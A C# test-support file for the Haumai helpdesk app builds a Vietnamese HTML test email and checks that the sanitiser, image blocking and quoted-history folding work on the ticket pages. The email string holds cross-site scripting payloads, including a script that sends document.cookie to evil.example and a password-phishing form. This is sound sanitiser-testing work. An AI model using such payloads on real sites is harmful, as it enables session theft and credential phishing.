using System.Net;
using System.Text;
using System.Text.RegularExpressions;
using Haumai.Web.Features.Mail.Inbound;
using Haumai.Web.Features.Mail;
using Haumai.Web.Features.Tickets;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace Haumai.Tests.Support;

/// <summary>
/// E6's test mail: an HTML-only message (multipart/related) with everything the sanitiser must take
/// out (scripts, an onerror handler, a form, a javascript: link), a remote image, an inline cid:
/// image sent as a part of the mail, a wide table and Gmail-style quoted history. The agent and
/// portal page tests ingest it through the real handler and read what the pages make of it.
/// </summary>
public static partial class HtmlMail
{
    public const string RemoteImage = "https://tracker.example/pixel.png";
    public const string InlineContentId = "anh-loi.01@khachhang.vn";
    public const string Quoted = "Thư cũ đã trích dẫn";

    public const string Html =
        "<html><head><title>Lỗi</title><style>p { color: red }</style><script>alert('trong-head')</script></head><body>"
        + "<p>Chào anh chị, <b>máy in</b> báo lỗi.<img src=\"x\" onerror=\"alert('onerror')\"></p>"
        + "<script>fetch('https://evil.example/?c=' + document.cookie)</script>"
        + "<form action=\"https://evil.example/steal\" method=\"post\"><input name=\"password\"><button>Đăng nhập lại</button></form>"
        + "<p><a href=\"javascript:alert('link')\">Bấm vào đây</a> hoặc xem <a href=\"https://haumai.vn/huong-dan\">hướng dẫn</a>.</p>"
        + "<p><img src=\"" + RemoteImage + "\" alt=\"Logo công ty\"></p>"
        + "<p><img src=\"cid:" + InlineContentId + "\" alt=\"Ảnh lỗi\" width=\"320\"></p>"
        + "<table width=\"1800\" border=\"1\"><tr><td>Mã lỗi</td><td>E-502</td></tr></table>"
        + "<div class=\"gmail_quote\"><div>Vào 20/11/2026, Hỗ trợ Haumai đã viết:</div><blockquote><p>" + Quoted + "</p></blockquote></div>"
        + "</body></html>";

    public static byte[] Raw(string from, string subject, byte[] inlineImage)
    {
        var text = $"From: <{from}>\r\nTo: hotro@haumai.vn\r\nSubject: {subject}\r\nDate: Sun, 22 Nov 2026 09:00:00 +0700\r\n"
            + $"Message-ID: <{Guid.NewGuid():N}@mail.khachhang.vn>\r\nMIME-Version: 1.0\r\n"
            + "Content-Type: multipart/related; boundary=\"lien-quan\"; type=\"text/html\"\r\n\r\n"
            + "--lien-quan\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + Convert.ToBase64String(Encoding.UTF8.GetBytes(Html), Base64FormattingOptions.InsertLineBreaks) + "\r\n"
            + "--lien-quan\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: base64\r\n"
            + $"Content-ID: <{InlineContentId}>\r\nContent-Disposition: inline\r\n\r\n"
            + Convert.ToBase64String(inlineImage) + "\r\n"
            + "--lien-quan--\r\n";
        return Encoding.ASCII.GetBytes(text);
    }

    public sealed record Ingested(long TicketId, long MessageId, long ImageId);

    /// <summary>Ingests the mail from <paramref name="from"/> (an existing customer is its author) as the mail pipe would.</summary>
    public static async Task<Ingested> IngestAsync(HaumaiFactory app, string from, byte[] inlineImage)
    {
        var result = await app.WithScopeAsync(sp => sp.GetRequiredService<IngestMail.Handler>()
            .IngestAsync(Raw(from, "Máy in báo lỗi E-502", inlineImage), InboundSource.Pipe, default));
        result.Outcome.ShouldBe(IngestMail.Outcome.NewTicket, result.Reason);
        var ticketId = result.TicketId!.Value;
        var message = await app.WithDbAsync(db => db.TicketMessages.AsNoTracking().SingleAsync(m => m.TicketId == ticketId));
        var image = await app.WithDbAsync(db => db.TicketAttachments.AsNoTracking().SingleAsync(a => a.TicketId == ticketId));
        // Kept as received; the text is what search, replies and quoting use: readable, without the history.
        message.BodyHtml.ShouldBe(Html);
        message.Body.ShouldContain("máy in");
        message.Body.ShouldNotContain(Quoted);
        message.Body.ShouldNotContain("<");
        image.ContentId.ShouldBe(InlineContentId);
        image.MessageId.ShouldBe(message.Id);
        return new Ingested(ticketId, message.Id, image.Id);
    }

    /// <summary>The sanitised HTML of one message on a page: what lies between its container and its plain-text fold.</summary>
    public static string SanitisedPart(string page, long messageId)
    {
        var start = page.IndexOf($"id=\"message-html-{messageId}\"", StringComparison.Ordinal);
        start.ShouldBeGreaterThanOrEqualTo(0, $"message {messageId} is not shown as HTML");
        var end = page.IndexOf("<details class=\"message-plain", start, StringComparison.Ordinal);
        end.ShouldBeGreaterThan(start);
        return page[start..end];
    }

    /// <summary>What must never come out of the sanitiser, on any page, in any view.</summary>
    public static void ShouldHaveNothingDangerous(string part)
    {
        part.ShouldNotContain("<script", Case.Insensitive);
        part.ShouldNotContain("alert(");
        part.ShouldNotContain("document.cookie");
        part.ShouldNotContain("<form", Case.Insensitive);
        part.ShouldNotContain("<input", Case.Insensitive);
        part.ShouldNotContain("<button", Case.Insensitive);
        part.ShouldNotContain("javascript:", Case.Insensitive);
        part.ShouldNotContain("evil.example");
        part.ShouldNotContain("<style", Case.Insensitive);
        part.ShouldNotContain(" style=");
        EventHandler().IsMatch(part).ShouldBeFalse("an on…= attribute");
        // What is safe stays: the words, the safe link (opened away from Haumai), the table.
        part.ShouldContain("<b>máy in</b>");
        part.ShouldContain("Bấm vào đây");
        part.ShouldContain("<a href=\"https://haumai.vn/huong-dan\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">hướng dẫn</a>");
        part.ShouldContain("Mã lỗi");
    }

    /// <summary>The quoted history is present, folded inside a details element with the localized summary.</summary>
    public static void ShouldFoldTheQuotedHistory(string part)
    {
        var folded = QuotedDetails().Match(part);
        folded.Success.ShouldBeTrue($"no folded history in:\n{part}");
        folded.Groups["summary"].Value.ShouldBe("Xem các thư trước được trích dẫn");
        folded.Groups["inside"].Value.ShouldContain(Quoted);
        folded.Groups["inside"].Value.ShouldContain("đã viết:");
        part[..folded.Index].ShouldNotContain(Quoted);
    }

    /// <summary>
    /// The message as a ticket page first shows it: nothing dangerous, the remote image left out
    /// (its alt text stays) with the notice and its "Show images" link to <paramref name="page"/>,
    /// the inline image from <paramref name="imageUrl"/>, the history folded.
    /// </summary>
    public static void ShouldBeShownWithRemoteImagesBlocked(string part, string page, long messageId, string imageUrl)
    {
        ShouldHaveNothingDangerous(part);
        part.ShouldNotContain("tracker.example", customMessage: "a remote image is not in the page until asked for");
        part.ShouldContain("Logo công ty", customMessage: "a blocked image leaves its alt text");
        part.ShouldContain("Đã chặn 1 hình ảnh từ bên ngoài");
        part.ShouldContain($"<a class=\"show-images\" href=\"{page}?images={messageId}#message-{messageId}\" "
            + $"hx-get=\"{page}?handler=MessageBody&amp;message={messageId}&amp;images=true\" hx-target=\"#message-html-{messageId}\" hx-swap=\"outerHTML\">Hiện hình ảnh</a>");
        part.ShouldContain($"<img src=\"{imageUrl}\" alt=\"Ảnh lỗi\" width=\"320\">");
        ShouldFoldTheQuotedHistory(part);
    }

    /// <summary>The message after "Show images": the remote image is there, and nothing else changed.</summary>
    public static void ShouldBeShownWithRemoteImages(string part, string imageUrl)
    {
        ShouldHaveNothingDangerous(part);
        part.ShouldContain($"<img src=\"{RemoteImage}\" alt=\"Logo công ty\">");
        part.ShouldNotContain("Hiện hình ảnh");
        part.ShouldContain($"<img src=\"{imageUrl}\" alt=\"Ảnh lỗi\" width=\"320\">");
        ShouldFoldTheQuotedHistory(part);
    }

    /// <summary>
    /// What the reader of <paramref name="page"/> can do: download the inline image (the page's own
    /// URL, with its permission check), load the remote images with the "Show images" link, and get
    /// only this message's body with them, as htmx does.
    /// </summary>
    public static async Task ShouldShowImagesOnRequestAsync(TestBrowser browser, string page, Ingested mail, string imageUrl, byte[] image)
    {
        var download = await browser.GetAsync(imageUrl);
        download.StatusCode.ShouldBe(HttpStatusCode.OK);
        (await download.Content.ReadAsByteArrayAsync()).ShouldBe(image);

        ShouldBeShownWithRemoteImages(SanitisedPart(await PageAsync(browser, $"{page}?images={mail.MessageId}"), mail.MessageId), imageUrl);

        var fragment = await PageAsync(browser, $"{page}?handler=MessageBody&message={mail.MessageId}&images=true");
        fragment.ShouldNotContain("<html");
        fragment.ShouldNotContain("reply-body");
        fragment.TrimStart().ShouldStartWith($"<div class=\"message-html-view\" id=\"message-html-{mail.MessageId}\">");
        ShouldBeShownWithRemoteImages(SanitisedPart(fragment, mail.MessageId), imageUrl);
        (await browser.GetAsync($"{page}?handler=MessageBody&message=999999999&images=true")).StatusCode.ShouldBe(HttpStatusCode.NotFound);
    }

    private static async Task<string> PageAsync(TestBrowser browser, string url)
    {
        var response = await browser.GetAsync(url);
        var html = await response.Content.ReadAsStringAsync();
        response.StatusCode.ShouldBe(HttpStatusCode.OK, $"GET {url}");
        return html;
    }

    [GeneratedRegex(@"<[^>]*\son[a-z]+\s*=", RegexOptions.IgnoreCase)]
    private static partial Regex EventHandler();

    [GeneratedRegex("<details class=\"quoted\"><summary>(?<summary>[^<]*)</summary>(?<inside>.*?)</details>", RegexOptions.Singleline)]
    private static partial Regex QuotedDetails();
}
